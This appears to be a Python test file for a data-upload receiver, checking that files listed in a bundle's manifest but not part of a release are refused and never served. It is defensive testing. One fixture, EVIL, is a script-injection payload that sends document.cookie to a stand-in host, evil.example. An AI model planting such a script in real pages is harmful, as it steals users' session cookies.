"""The receiver trusts nothing in an upload (issue 13, items 7-10): only a release's own files, only
allowed cell values, only known hierarchies, bounded memory, strict headers and auth."""

from __future__ import annotations

import hashlib
import json

from tests.unit.test_central_app import Central, central, database_url  # noqa: F401 - fixtures
from tests.unit.test_central_fixtures import make_bundle

RAW = b"name,phone\nAnna Petrenko,+380501234567\n"
EVIL = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"


def _with_listed_extras(files: dict[str, bytes], extras: dict[str, bytes]) -> dict[str, bytes]:
    """The bundle plus `extras`, each listed in the manifest with its true checksum (the release id
    does not cover them, so it stays valid): only the file-set check can catch them."""
    manifest = json.loads(files["manifest.json"])
    for name, content in extras.items():
        manifest["files"][name] = {"sha256": hashlib.sha256(content).hexdigest(), "bytes": len(content)}
    return {**files, **extras, "manifest.json": json.dumps(manifest).encode()}


def test_files_listed_in_the_manifest_but_not_of_a_release_are_refused_and_never_served(central):
    bundle = make_bundle("ngo-a")
    files = _with_listed_extras(bundle.files, {"raw-cases.csv": RAW, "evil.html": EVIL})
    response = central.upload(files, key=bundle.release_id)
    assert response.status_code == 422, response.text
    reasons = " ".join(response.json()["detail"]["reasons"])
    assert "raw-cases.csv" in reasons and "Anna" not in response.text  # refused at the first part it does not know
    assert central.stored() == (0, [])
    for name in ("raw-cases.csv", "evil.html"):
        assert central.client.get(f"/releases/{bundle.release_id}/files/{name}", headers=central.auth("admin")).status_code == 404


def test_a_file_listed_only_in_the_manifest_is_refused_by_name(tmp_path):
    from connector.central.validate import UploadRefused, check_upload
    from connector.schema import load_schema

    bundle = make_bundle("ngo-a")
    manifest = json.loads(bundle.files["manifest.json"])
    manifest["files"]["evil.html"] = {"sha256": hashlib.sha256(EVIL).hexdigest(), "bytes": len(EVIL)}
    files = {**bundle.files, "manifest.json": json.dumps(manifest).encode()}
    try:
        check_upload(files, partner="ngo-a", schema=load_schema())
    except UploadRefused as exc:
        assert exc.status == 422 and "not part of a release" in exc.error and any("evil.html" in r for r in exc.reasons)
    else:
        raise AssertionError("a manifest listing evil.html was accepted")


def test_the_receiver_still_accepts_exactly_a_release(central):
    bundle = make_bundle("ngo-a")
    assert central.upload(bundle).status_code == 201
    detail = central.client.get(f"/releases/{bundle.release_id}", headers=central.auth("admin")).json()
    assert {f["name"] for f in detail["files"]} == {"data.csv", "datapackage.json", "codebook.md", "privacy.json", "report.html", "manifest.json"}
